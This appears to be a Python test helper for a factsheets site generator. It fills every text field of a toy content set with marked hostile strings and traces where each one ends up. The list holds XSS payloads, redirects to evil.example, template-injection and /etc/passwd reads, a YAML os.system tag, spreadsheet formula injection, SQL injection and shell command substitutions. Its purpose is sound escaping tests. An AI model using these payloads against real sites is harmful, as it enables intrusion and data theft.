"""A site full of attacks: one of a list of hostile texts in every free text of every kind of file.

The list is our own, in the spirit of the public ones: markup that breaks out of elements,
attributes and comments, templates of several engines, Markdown with attributes, spreadsheets,
paths, commands, letters of many scripts. Each text gets a mark of its own, so that a page on which
it stands changed can be traced to its field.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from itertools import count
from pathlib import Path
from typing import Any

import yaml

from factsheets.model import Model
from factsheets.reading.inline import parse_inline
from nasty import filled

RUN = "window.hacked=1"
HOSTILE = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}//",
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"'><details open ontoggle={RUN}>",
    f"' autofocus onfocus={RUN} x='",
    f'" style="animation-name:x" onanimationstart="{RUN}',
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>".replace("\t", "&Tab;"),
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a>",
    f"<svg><script>{RUN}</script><foreignObject><body onload={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
    f"--><script>{RUN}</script><!--",
    f"] ]><script>{RUN}</script>",
    f"</title></textarea></style></noscript><script>{RUN}</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<form action=https://evil.example/><button>x</button><input name=x autofocus>",
    "<body background=https://evil.example/x.png>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#62; &amp;amp;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{RUN} \\u003cscript\\u003e",
    f"javascript:{RUN}//",
    "data:text/html,<script>parent.hacked=1</script>",
    f"'-{RUN}-' \"+{RUN}+\" `${{{RUN}}}`",
    "${7*7} #{7*7} <%= 7*7 %> {{7*7}} {{ config.items() }} {% raw %} [${7*7}]",
    "{{ ''.__class__.__mro__ }} {%- include '/etc/passwd' -%} {# x #}",
    "{{constructor.constructor('window.hacked=1')()}} <b v-on:click=x @click=x ng-init=x>",
    f"x {{: onclick={RUN} }} {{ #top .x onmouseover={RUN} }}",
    f"[x](javascript:{RUN}) ![x](https://evil.example/x.png) <javascript:{RUN}>",
    f"[x]: javascript:{RUN} 'x' [^x]: note *[abbr]: x",
    "# heading { #bottom-line } ## heading --- *** ___ === ```",
    "| a | b | |---|:-:| > quote - list 1. list : term",
    "!!python/object/apply:os.system ['x'] &anchor *anchor !tag %YAML 1",
    "key: value # remark - item ? key | text > text",
    "=cmd|' /C calc'!A1 @SUM(1+1) +1+1 -1+1",
    "../../../etc/passwd C:\\Windows\\x \\\\host\\share file:///etc/passwd",
    "'; DROP TABLE findings; -- \" OR 1=1 /*",
    "$(touch x) `touch x` ; touch x | touch x && touch x",
    "\\documentclass{x} \\input{/etc/passwd} $x^2$ \\textbf{x} ~ \\& \\%",
    "@article{x, title = {x}} #x# {x",
    "null undefined NaN true false None nil () [] {} 0 -1",
    "__proto__ constructor prototype hasOwnProperty toString",
    "wzxhzdk:0 klzzwxh:0000 :smile: ==x== ^^x^^ ++x++ ~~x~~",
    "PD-L1 <TPS 1%> group, IL-6*/IL-10*, α₂β₁, ≥ ≤ ± × − µ °",
    "肝转移（肺癌）：《甲》“乙”、＊未＊ 𠮷𡈽 ㈱ ﾊﾝｶｸ",
    "ŕéšúmé Ĥàçêk İıŞş ﬁ ß ẞ Ωmega Ж я ש א ع م हि ไทย 한글 ꙮ 👩‍⚕".replace("\u200d", ""),
    "{:toc} [TOC] [_TOC_] <!-- more --> <?php x ?> <?xml x?> <!DOCTYPE x> <![CDATA[x] ]>",
)
MARK = re.compile(r"qz[a-j]{4}zq")


class Texts:
    """Hostile texts in turn, each marked; ``given`` says which text carries which mark."""

    def __init__(self) -> None:
        self.given: dict[str, str] = {}
        self._numbers = count()

    def __call__(self) -> str:
        number = next(self._numbers)
        mark = "qz" + "".join("abcdefghij"[int(digit)] for digit in f"{number:04}") + "zq"
        text = f"{HOSTILE[number % len(HOSTILE)]} {mark}"
        self.given[mark] = text
        return text


def fill_with_attacks(root: Path) -> dict[str, str]:
    """Write the toy with a hostile text in every field to ``root / "content"``; out: every text by
    its mark."""
    texts = Texts()
    catalog = filled(texts)
    for entry in (catalog.site, catalog.glossary, catalog.directness):
        _write(root / entry.path, entry.content)
    for entry in (*catalog.sheets.values(), *catalog.studies.values()):
        _write(root / entry.path, entry.content)
    for name, terms in catalog.vocabularies.items():
        _write(root / catalog.vocabulary_documents[name].path, terms)
    return texts.given


def fields_by_mark(root: Path) -> dict[str, str]:
    """For each mark in the files below ``root / "content"`` the field that holds it, without the
    numbers of list items and the names of files: ``findings.claim.en``."""
    found = {}
    for path in sorted((root / "content").rglob("*.yaml")):
        data = yaml.load(path.read_text(encoding="utf-8"), yaml.CBaseLoader)
        for place, text in _leaves(data, ()):
            for mark in MARK.findall(text):
                found[mark] = f"{path.parent.name}: {'.'.join(place)}"
    return found


def shown(text: str) -> str:
    """A text as a reader should see it: without the marks of our own dialect, blanks as one."""
    return " ".join("".join(span.text for span in parse_inline(text)).split())


def _leaves(value: Any, place: tuple[str, ...]) -> Iterator[tuple[tuple[str, ...], str]]:
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from _leaves(inner, (*place, name))
    elif isinstance(value, list):
        for inner in value:
            yield from _leaves(inner, place)
    elif isinstance(value, str):
        yield place, value


def _write(path: Path, content: Any) -> None:
    dumped = (
        content.model_dump(mode="json", by_alias=True, exclude_none=True)
        if isinstance(content, Model)
        else {
            id: term.model_dump(mode="json", by_alias=True, exclude_none=True)
            for id, term in content.items()
        }
    )
    path.write_text("\n".join(_lines(dumped)) + "\n", encoding="utf-8")


def _lines(value: Any) -> Iterator[str]:
    """Block YAML with every text in double quotes."""
    if isinstance(value, dict):
        for name, inner in value.items():
            if isinstance(inner, str) or not inner:
                yield f"{name}: {json.dumps(inner, ensure_ascii=False)}"
            else:
                yield f"{name}:"
                yield from (f"  {line}" for line in _lines(inner))
    else:
        for inner in value:
            if isinstance(inner, str):
                yield f"- {json.dumps(inner, ensure_ascii=False)}"
            else:
                first, *rest = _lines(inner)
                yield f"- {first}"
                yield from (f"  {line}" for line in rest)
